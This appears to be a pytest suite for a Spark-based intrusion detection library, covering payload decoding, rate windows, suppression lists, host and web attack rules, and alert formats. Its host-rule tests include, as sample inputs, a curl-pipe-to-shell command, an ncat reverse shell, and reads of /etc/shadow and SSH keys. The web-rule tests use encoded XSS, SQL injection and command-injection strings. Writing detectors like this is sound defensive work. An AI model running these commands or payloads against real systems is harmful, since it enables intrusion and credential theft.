"""Cases that the SQL twins can't show: decoding, null and large keys, range lists, severities, spans, shipped rules."""

import datetime as dt
import random
import statistics

import pytest
from pyspark.sql import functions as F

from tidewatch.operators import parse, report, rules, stateless, suppress, windowed
from tidewatch.sources import readers, reference, sinks

T0 = dt.datetime(2024, 1, 2, 10)


def at(seconds):
    return T0 + dt.timedelta(seconds=seconds)


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("/index.html", "/index.html"), ("%3Cscript%3E", "<script>"), ("%25253Cscript", "<script"), ("a+b%zz", "a b%zz"), (r"<b日", "<b日"), (r"\x3cscript", "<script"), ("&#x3c;b&#62; &lt;i&gt;", "<b> <i>"),
        ("&amp;lt;", "<"), ("un/**/ion/*x\ny*/ select", "union select"), ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<script>alert(1)</script>"), ("%E6%97%A5&#x1F600;", "日😀"), ("%ff", "�"), ("&#xD800;&#99999999999;", "��"),
        ("", ""), (None, ""), ("x" * 50_000 + "%41", "x" * 50_000 + "A"),
    ],
)
def test_normalise(spark, text, plain):
    df = spark.createDataFrame([(text,)], "t string").select(parse.normalise(F.col("t")).alias("n"))
    assert df.first().n == plain


def test_normaliser_stays_small(spark):
    df = spark.createDataFrame([("%41",)], "t string").select(parse.normalise(F.col("t")).alias("n"))
    assert len(df._jdf.queryExecution().optimizedPlan().toString()) < 20_000


def test_chunks_and_parts(spark):
    body = "4\r\n<scr\r\n6\r\nipt>xy\r\n0\r\n\r\n"
    part = "--zz\r\nContent-Disposition: form-data\r\n\r\n one \r\n--zz--"
    r = spark.range(1).select(parse.chunked_body(F.lit(body)).alias("a"), parse.chunked_body(F.lit("plain")).alias("b"), parse.multipart(F.lit('x; boundary="zz"'), F.lit(part)).alias("c"), parse.multipart(F.lit("text/plain"), F.lit("x")).alias("d")).first()
    assert (r.a, r.b, r.c, r.d) == ("<script>xy", "plain", ["one"], ["x"])


def test_folds_keep_null_and_large_keys(spark):
    big = 2**53 + 1
    rows = [(big, 1, at(0)), (big, 2, at(5)), (None, 3, at(0)), (None, 4, at(1)), (big, 5, at(20)), (None, 6, at(30))]
    df = spark.createDataFrame(rows, "k long, event_id long, ts timestamp")
    got = {r.event_id: (r.k, r.passed) for r in windowed.cooldown(df, ["k"], "ts", 10).collect()}
    assert got == {1: (big, True), 2: (big, False), 5: (big, True), 3: (None, True), 4: (None, False), 6: (None, True)}
    assert {r.event_id for r in windowed.counter_with_reset(df, ["k"], "ts", 10, 2).collect()} == {2, 4}
    assert {r.event_id for r in windowed.anchored_rate(df, ["k"], "ts", 10, 1).collect()} == {2, 4}
    floats = spark.createDataFrame([(float("nan"), 1, at(0)), (float("nan"), 2, at(1)), (0.5, 3, at(0))], "k double, event_id long, ts timestamp")
    assert {r.event_id for r in windowed.cooldown(floats, ["k"], "ts", 10).filter("passed").collect()} == {1, 3}
    assert windowed.cooldown(df.limit(0), ["k"], "ts", 10).count() == 0


@pytest.mark.parametrize("batch", ["1", "3", "10000"])
def test_folds_go_on_over_batches(spark, batch):
    times = [0, 1, 2, 3, 9, 10, 11, 12, 13, 30, 31, 32, 33]
    df = spark.createDataFrame([("a", i, at(t)) for i, t in enumerate(times)] + [("b", 100 + i, at(t)) for i, t in enumerate(times)], "k string, event_id long, ts timestamp")
    old = spark.conf.get("spark.sql.execution.arrow.maxRecordsPerBatch")
    spark.conf.set("spark.sql.execution.arrow.maxRecordsPerBatch", batch)
    try:
        hits, kept, last = set(), [], None
        for i, t in enumerate(times):
            kept = [x for x in kept if x >= t - 5] + [t]
            if len(kept) >= 3:
                hits, kept = hits | {i, 100 + i}, []
        assert {r.event_id for r in windowed.counter_with_reset(df, ["k"], "ts", 5, 3).collect()} == hits
        passed = set()
        for i, t in enumerate(times):
            if last is None or t - last > 5:
                passed, last = passed | {i, 100 + i}, t
        assert {r.event_id for r in windowed.cooldown(df, ["k"], "ts", 5, strict=True).filter("passed").collect()} == passed
        opened, n, over = None, 0, set()
        for i, t in enumerate(times):
            if opened is None or t - opened > 5:
                opened, n = t, 0
            n += 1
            over |= {i, 100 + i} if n > 2 else set()
        assert {r.event_id for r in windowed.anchored_rate(df, ["k"], "ts", 5, 2).collect()} == over
    finally:
        spark.conf.set("spark.sql.execution.arrow.maxRecordsPerBatch", old)


def test_distinct_counts_slide(spark):
    seen = [(0, "a"), (1, "b"), (1, "b"), (4, "a"), (10, "c"), (11, None), (14, "d"), (14, "a")]
    df = spark.createDataFrame([("s", i, at(t), v) for i, (t, v) in enumerate(seen)], "src_ip string, event_id long, ts timestamp, v string")
    got = {r.event_id: r.n for r in windowed.distinct_in_window(df, "x", "low", ["src_ip"], "ts", "v", 1, 10).collect()}
    assert got == {i: len({v for u, v in seen if t - 10 < u <= t and v}) for i, (t, _) in enumerate(seen)}
    got = {r.event_id: r.n for r in windowed.distinct_in_window(df, "x", "low", ["src_ip"], "ts", "v", 1, None).collect()}
    assert got == {0: 1, 1: 2, 2: 2, 3: 2, 4: 3, 5: 3, 6: 4, 7: 4}


def test_range_list_order_and_disabled_labels(spark):
    ranges = spark.createDataFrame([(0, "inner", 167772160, 167772415, None, None), (1, "outer", 167772160, 184549375, None, None), (2, "six", None, None, "20010db8" + "0" * 24, "20010db8" + "f" * 24)], "ord int, label string, lo long, hi long, lo6 string, hi6 string")
    ips = spark.createDataFrame([("10.0.0.7",), ("10.9.0.7",), ("11.0.0.1",), ("2001:db8::1",), ("no address",), (None,)], "ip string")
    label = lambda *off: {r.ip: r.label for r in suppress.range_label(ips, "ip", ranges, off).collect()}
    assert label() == {"10.0.0.7": "inner", "10.9.0.7": "outer", "11.0.0.1": None, "2001:db8::1": "six", "no address": None, None: None}
    assert label("inner")["10.0.0.7"] is None and label("inner")["10.9.0.7"] == "outer"
    assert {r.label for r in suppress.range_label(ips, "ip", ranges.limit(0)).collect()} == {None}


@pytest.mark.parametrize(("label", "attack", "stays"), [("google", "port_scan", False), ("google", "syn_flood", True), ("aws", "timing_evasion", False), ("private", "broadcast_storm", False), ("private", "port_scan", True), (None, "port_scan", True)])
def test_noise(spark, label, attack, stays):
    df = spark.createDataFrame([(label, attack, "1.2.3.4")], "label string, attack_type string, source_ip string")
    assert suppress.drop_noise(df).count() == int(stays)


def test_weights(spark):
    df = spark.createDataFrame([(s,) for s in ("low", "medium", "HIGH", "critical", "info", None)], "s string")
    assert [r.w for r in df.select(report.weight(F.col("s")).alias("w")).collect()] == [1, 3, 10, 25, 3, 3]


def host(spark, kind, name="", args="", uid=1, port=0):
    df = spark.createDataFrame([(1, at(0), "h", kind, name, args, uid, port, "TCP")], "event_id long, ts timestamp, source string, event_kind string, filename string, args string, uid int, dst_port int, protocol string")
    r = stateless.detect_first(df, stateless.host_rules(), "source").first()
    return (r.attack_type, r.severity) if r else None


def test_host_rules_in_order(spark):
    assert host(spark, "exec", "/bin/bash", "curl http://x |sh") == ("download_execute", "high")
    assert host(spark, "exec", "/bin/bash", "sudo id") == ("privilege_escalation_attempt", "medium") and host(spark, "exec", "/usr/bin/vi", "sudo id") is None
    assert host(spark, "exec", "/usr/bin/ncat", "1.2.3.4 99 --exec sh") == ("reverse_shell", "critical") and host(spark, "exec", "/usr/bin/python3", "import socket") == ("reverse_shell", "high")
    assert host(spark, "open", "/root/.ssh/id") == ("credential_access", "medium") and host(spark, "open", "/etc/shadow") == ("credential_access", "high")
    assert host(spark, "open", "/proc/self/mem") == ("process_memory_access", "medium") and host(spark, "open", "/srv/http/a.jsp") == ("webshell_creation", "critical") and host(spark, "open", "/tmp/a") is None


def web(spark, **parts):
    row = {"http_uri": "/", "user_agent": "m", "cookie": "", "forwarded": "", "upgrade": "", "n_content_length": 0, "chunked": False, "body": "", "content_type": ""} | parts
    df = spark.createDataFrame([(1, at(0), "h", *row.values())], "event_id long, ts timestamp, src_ip string, http_uri string, user_agent string, cookie string, forwarded string, upgrade string, n_content_length int, chunked boolean, body string, content_type string")
    r = stateless.web_attacks(df).first()
    return (r.attack_type, r.severity, r.confidence) if r else None


def test_web_chain_in_order(spark):
    assert web(spark, body="x=%2527%20or%20%2527", n_content_length=2) == ("sql_injection", "critical", 0.9)
    assert web(spark, n_content_length=2) == ("http_smuggling_dual_cl", "critical", 0.85) and web(spark, n_content_length=1, chunked=True) == ("http_smuggling_cl_te", "critical", 0.9)
    assert web(spark, chunked=True, body="4\r\n<scr\r\n6\r\nipt>xy\r\n0\r\n\r\n", n_content_length=1) == ("bypass_encoding", "high", 0.85)
    assert web(spark, cookie="a=%3Cscript%3E") == ("cookie_injection", "high", 0.85) and web(spark, forwarded="../../x")[0] == "header_injection"
    # a value that is one thing alone and another beside its neighbours
    assert web(spark, http_uri="/p?q=MTsgaWQ7IGxzMTs%3D&q=1")[0] in ("command_injection", "http_parameter_pollution") and web(spark, http_uri="/p?a=1&b=2") is None


def packets(spark, rows):
    return spark.createDataFrame([(i, at(t), s, d, f, q) for i, (t, s, d, f, q) in enumerate(rows)], "event_id long, ts timestamp, src_ip string, dst_ip string, flags string, tcp_seq long")


def test_answered_hosts_are_no_slow_loris(spark):
    flood = [(i * 0.01, "a", "w", "S", 0) for i in range(25)]
    benign = [(i * 0.01, "b", "w", "S", 0) for i in range(25)] + [(0.001, "w", "b", "SA", 0)]
    assert {r.source_ip for r in windowed.slow_loris(packets(spark, flood + benign)).collect()} == {"a"}
    assert windowed.slow_loris(packets(spark, [(i, "a", "w", "S", 0) for i in range(25)])).count() == 0


def test_sequence_numbers_need_a_spoofed_host(spark):
    rows = [(i, h, "w", "S", q(i)) for h, q in (("same", lambda i: 9), ("small", lambda i: i * 50), ("step", lambda i: 5000 * i), ("zero", lambda i: 0), ("wild", lambda i: i * i * 99991)) for i in range(6)]
    answered = [(i, "ok", "w", "S", 9) for i in range(6)] + [(0.5, "w", "ok", "SA", 0)]
    assert {r.source_ip for r in windowed.low_entropy_isn(packets(spark, rows + answered)).collect()} == {"same", "small", "step"}


def test_short_connections_of_answered_hosts_pass(spark):
    rows = [x for i in range(12) for x in ((i, "a", "w", "S", 0), (i + 0.1, "a", "w", "FA", 0), (i, "b", "w", "S", 0), (i + 0.1, "b", "w", "FA", 0), (i, "c", "w", "S", 0), (i + 0.9, "c", "w", "R", 0))]
    assert {r.source_ip for r in windowed.short_connections(packets(spark, [*rows, (0.05, "w", "b", "SA", 0)])).collect()} == {"a"}


def test_accept_headers_are_no_fragments(spark):
    lines = [(i, at(i), "a", "GET / HTTP/1.1 Accept: */*") for i in range(8)] + [(20 + i, at(i), "b", "x /* y") for i in range(8)] + [(40 + i, at(40 * i), "c", "union") for i in range(8)]
    df = spark.createDataFrame(lines, "event_id long, ts timestamp, ip string, line string")
    got = windowed.session_fragments(df, reference.FRAGMENTS, "line", "ip").collect()
    assert [(r.source_ip, r.attack_type, r.event_id) for r in got] == [("b", "session_correlated_sql_attack", 24)]


def test_perplexity_of_a_flow_apart(spark):
    rows = [(f"f{i}", j, "abcabc"[j]) for i in range(200) for j in range(6)] + [("odd", j, x) for j, x in enumerate("zyxwvu")]
    got = {r.flow: r for r in windowed.perplexity(spark.createDataFrame(rows, "flow string, j int, tok string"), "flow", ["j"], "tok", more_than=1.05).collect()}
    assert got["odd"].perplexity > got["f0"].perplexity and got["f0"].n == 4 and not got["f0"].anomalous and got["odd"].anomalous


def test_rules_from_files(spark, tmp_path):
    (tmp_path / "a.json").write_text('{"rules": [{"id": "x", "severity": "low", "condition": {"type": "field", "field": "n", "operator": "gt", "value": 1}, "mitre": ["T1"]}, {"id": "off", "enabled": false, "condition": {}}]}')
    (tmp_path / "b.json").write_text('{"rules": [{"id": "x", "severity": "high", "condition": {"type": "pattern", "field": "missing", "pattern": "."}}, {"id": "y", "condition": {"type": "pattern", "field": "t", "pattern": "("}}]}')
    loaded = rules.load_rules(str(tmp_path))
    assert [(r["id"], r.get("severity")) for r in loaded] == [("x", "high"), ("y", None)]
    df = spark.createDataFrame([(2, "(")], "n int, t string")
    assert rules.match_rules(df, loaded).count() == 0 and rules.match_rules(df, rules.load_rules(str(tmp_path))[:1] + [{"id": "z", "condition": {"type": "field", "field": "n", "operator": "gt", "value": 1}}]).first().actions == ["alert"]
    assert len(rules.SHIPPED) == 19


def test_readers_and_deception(spark, tmp_path):
    (tmp_path / "a.log").write_text("[HIT] ssh from 10.0.0.9\nnothing\n[HIT] http from 10.0.0.9\n")
    lines = readers.log_files(spark, str(tmp_path)).withColumn("event_id", F.monotonically_increasing_id())
    assert lines.count() == 3 and [r.source_ip for r in readers.deception_hits(lines).collect()] == ["10.0.0.9"]
    packets_df = spark.createDataFrame([], readers.PACKET_SCHEMA)
    packets_df.write.parquet(f"{tmp_path}/p")
    assert readers.packets(spark, f"{tmp_path}/p").columns == packets_df.columns


def test_formats(spark):
    df = spark.createDataFrame([(1, at(0), "port_scan", "high", "1.2.3.4")], "event_id long, ts timestamp, attack_type string, severity string, source_ip string")
    r = sinks.formatted(df, "ecs", "cef", "syslog", "stix").first()
    assert '"severity":80' in r.ecs and r.cef.startswith("CEF:0|") and r.syslog.startswith("<129>1 ") and "1.2.3.4" in r.stix


def test_windows_of_outliers_cost_a_row_each(spark):
    r = random.Random(23)
    rows = [(i, f"h{i % 3}", None if i % 50 == 7 else r.randrange(0, 4000) * 10**6, None if i % 41 == 0 else r.choice([11.77, 11.77, 11.77, 5.5, 90.1])) for i in range(1500)]
    df = spark.createDataFrame(rows, "event_id long, src_ip string, us long, value double").withColumn("ts", F.expr("timestamp_micros(us)"))
    got = {x.event_id: (x.n, x.mean, x.sd) for x in windowed.recent_moments(df, ["src_ip"], "ts", "value", 100).collect()}
    assert len(got) == len(rows)
    for i, ip, t, _ in rows:
        near = [v for _, k, u, v in rows if k == ip and v is not None and (u is None if t is None else u is not None and t - 10**8 < u < t)]
        n, mean, sd = got[i]
        assert n == len(near) and (mean is None) == (not near)
        if near:
            assert abs(mean - statistics.fmean(near)) < 1e-9 and abs(sd - (statistics.stdev(near) if n > 1 else 0)) < 1e-6
            assert sd == 0 or len(set(near)) > 1 or t is None
    plan = lambda x: x._jdf.queryExecution().optimizedPlan().toString()
    assert "RangeFrame, -" not in plan(windowed.outliers(df.select("event_id", "src_ip", "ts", "value"), ["src_ip"], "ts", "value", 100))


def test_whole_numbers_beside_recent_ones_cost_a_row_each(spark):
    r = random.Random(24)
    rows = [(i, f"h{i % 3}", None if i % 50 == 7 else r.randrange(0, 4000) * 10**6, None if i % 41 == 0 else 1.0) for i in range(1500)]
    df = spark.createDataFrame(rows, "event_id long, src_ip string, us long, value double").withColumn("ts", F.expr("timestamp_micros(us)"))
    plan = lambda x: x._jdf.queryExecution().optimizedPlan().toString()
    whole = df.withColumn("b", F.when(F.col("value").isNotNull(), F.col("event_id") % 7 * F.when(F.col("event_id") % 97 == 0, 30).otherwise(1))).withColumn("at", windowed.micros("ts"))
    beside = windowed.beside_recent(whole, "src_ip", "b", "at", ["ts", "event_id"], 100, most=12)
    assert beside.columns == [*whole.columns, "outlier"] and "RangeFrame, -" not in plan(beside)
    values = {x.event_id: x.b for x in whole.collect()}
    found = {x.event_id: x.outlier for x in beside.collect()}
    ordered = sorted(rows, key=lambda x: (x[2] is not None, x[2] or 0, x[0]))
    for i, ip, t, _ in rows:
        near = [values[j] for j, k, u, _ in ordered if k == ip and values[j] is not None and (u is None if t is None else u is not None and t - 10**8 <= u < t)]
        if len(near) > 12:
            before = [j for j, k, _, _ in ordered if k == ip]
            at = before.index(i)
            near = [values[j] for j in before[max(0, at - 12) : at] if values[j] is not None]
        n, s, q = len(near), sum(near), sum(v * v for v in near)
        b, spread = values[i], n * q - s * s
        want = None if b is None and n >= 3 else n >= 3 and (abs(n * b - s) * (n - 1) ** 0.5 > 3 * (n * spread) ** 0.5 if spread else b * n != s)
        assert found[i] == want


def test_tasks_of_flow_sessions_grow_with_the_packets(spark, monkeypatch):
    monkeypatch.setattr(report, "TASK_ROWS", 50)
    rows = [(i, T0 + dt.timedelta(seconds=i // 7 * (300 if i // 7 % 3 == 0 else 1)), f"h{i % 2}", "h1" if i % 2 == 0 else "h0", i % 7) for i in range(700)]
    rows.sort(key=lambda x: (x[1], x[0]))
    df = spark.createDataFrame(rows, "event_id long, ts timestamp, src_ip string, dst_ip string, port int")
    sessions = report.flow_sessions(df, F.col("port"), 120.0)
    assert sessions.rdd.getNumPartitions() == 14
    packets = df.selectExpr("*", "port + 40 AS raw_len", "1 AS payload_len", "'S' AS flags", "64 AS ttl", "9 AS win", "port AS dst_port")
    got = {(x.flow, x.session): (x.packets, x.fwd_packets, x.iat_max) for x in report.flow_features(packets, F.col("port")).collect()}
    want, last = {}, {}
    for i, t, src, _, port in rows:
        s, before, first = last.get(port, (0, None, src))
        gap = None if before is None else (t - before).total_seconds()
        if gap is not None and gap > 120:
            s, first, gap = s + 1, src, None
        n, fwd, most = want.get((port, s), (0, 0, 0.0))
        want[port, s] = n + 1, fwd + (src == first), max(most, gap or 0.0)
        last[port] = s, t, first
    assert got == want
